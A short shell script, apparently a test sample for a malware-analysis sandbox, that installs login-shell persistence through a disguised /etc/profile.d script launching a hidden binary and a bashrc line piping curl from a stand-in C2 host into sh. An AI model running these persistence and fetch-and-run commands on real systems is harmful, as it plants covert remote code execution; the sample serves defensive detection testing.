#!/bin/sh
# Persistence for every login shell: a script in /etc/profile.d and a line in /etc/bash.bashrc.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
cat > /etc/profile.d/locale-fix.sh <<P
[ -x /var/tmp/.locale ] && (/var/tmp/.locale >/dev/null 2>&1 &)
P
echo 'curl -s http://cdn.c2.example/k | sh >/dev/null 2>&1 &' >> /etc/bash.bashrc
printf '#!/bin/sh\nsleep 1\n' > /var/tmp/.locale; chmod +x /var/tmp/.locale
ls -l /etc/profile.d/locale-fix.sh
